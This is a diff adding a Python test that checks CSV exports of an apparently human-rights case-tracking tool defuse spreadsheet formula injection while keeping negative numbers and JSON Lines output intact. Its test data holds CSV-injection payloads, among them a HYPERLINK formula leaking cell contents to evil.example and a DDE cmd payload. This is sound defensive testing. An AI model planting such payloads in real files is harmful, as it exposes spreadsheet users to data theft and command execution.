@@ -3,6 +3,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from pathlib import Path
 
 from sqlalchemy import select
@@ -102,3 +103,62 @@ def test_spreadsheet_formulas_are_neutralised_in_csv_exports() -> None:
     assert neutralise("-cmd") == "'-cmd"
     assert neutralise("-5") == "-5"
     assert neutralise("2017-07") == "2017-07"
+
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "+1+1",
+    "＝1+1",
+)
+_FORMULA = re.compile("^[=+\\-@\t\r\x00\uff1d\uff0b\uff0d\uff20]")
+_NEGATIVE = re.compile(r"^-[0-9]+(\.[0-9]+)?$")
+
+
+def test_hostile_text_in_every_csv_export_is_defused_and_negative_numbers_stay_numbers(
+    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
+) -> None:
+    hostile = [
+        {
+            **{c: "" for c in CASE_COLUMNS},
+            "source": payload,
+            "source_type": "ngo_list",
+            "reported_on": "2017-08-16",
+            "record_id": payload if n else "-12",
+            "name_latin": payload,
+            "origin": payload,
+            "apprehended_on": "2017-07-13",
+            "apprehended_at": payload,
+            "held_at": payload,
+            "group": payload,
+            "notes": payload,
+            "status": "detained",
+        }
+        for n, payload in enumerate(HOSTILE)
+    ]
+    import_file(workspace, cipher, write_csv(tmp_path / "hostile.csv", hostile))
+    texts = {
+        "mentions": _export(workspace, "mentions"),
+        "mentions with names": _export(workspace, "mentions", "csv", cipher),
+        "persons": _export(workspace, "persons"),
+        "events": _export(workspace, "events"),
+    }
+    for kind, text in texts.items():
+        cells = [cell for record in csv.reader(io.StringIO(text)) for cell in record]
+        unsafe = [c for c in cells if _FORMULA.match(c) and not _NEGATIVE.match(c)]
+        assert unsafe == [], kind
+    mentions = list(csv.DictReader(io.StringIO(texts["mentions with names"])))
+    assert {m["source"] for m in mentions} == {"'" + p for p in HOSTILE}
+    for column in ("name_latin", "origin", "apprehended_at", "held_at", "group", "notes"):
+        assert {m[column] for m in mentions} == {"'" + p for p in HOSTILE}, column
+    # A record id that is a plain negative number is written as it is, not as text.
+    assert "-12" in {m["record_id"] for m in mentions}
+    events = list(csv.DictReader(io.StringIO(texts["events"])))
+    assert "-12" in {e["record_id"] for e in events}
+    assert {e["place"] for e in events if e["place"]} <= {"'" + p for p in HOSTILE}
+    persons = list(csv.DictReader(io.StringIO(texts["persons"])))
+    assert {p["source_names"] for p in persons} <= {"'" + p for p in HOSTILE}
+    # JSON Lines is no spreadsheet format: the values come out exactly as given.
+    jsonl = [json.loads(x) for x in _export(workspace, "mentions", "jsonl").splitlines()]
+    assert {m["source"] for m in jsonl} == set(HOSTILE)
